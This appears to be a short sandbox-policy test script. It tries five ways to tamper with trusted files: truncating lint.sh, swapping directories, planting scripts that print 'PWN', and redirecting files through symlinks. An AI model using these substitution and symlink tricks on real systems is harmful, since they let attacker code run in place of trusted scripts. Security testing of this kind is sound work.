import sys,json; sys.path.insert(0,"/work/notes/atk31")
from stdio import *
s=Stdio("/tmp/atk31x/pol.toml")
print("1",json.dumps(sc(s.run("cp","/dev/null","scripts/lint.sh")))[:400])
print("2",json.dumps(sc(s.py('import os;os.rename("scripts","old");os.mkdir("scripts");open("scripts/lint.sh","w").write("#!/bin/sh\\necho PWN\\n");os.chmod("scripts/lint.sh",0o755)')))[:700])
print("3",json.dumps(sc(s.py('import os,shutil;os.mkdir("evil");open("evil/lint.sh","w").write("#!/bin/sh\\necho PWN\\n");os.chmod("evil/lint.sh",0o755);shutil.rmtree("scripts");os.symlink("evil","scripts")')))[:700])
print("4",json.dumps(sc(s.py('import os;os.rename("tools","tools_old");os.mkdir("tools");open("tools/ls.sh","w").write("echo PWN\\n")')))[:700])
print("5",json.dumps(sc(s.py('import os;os.unlink("tools/ls.sh");os.symlink("../evil/lint.sh","tools/ls.sh")')))[:700])
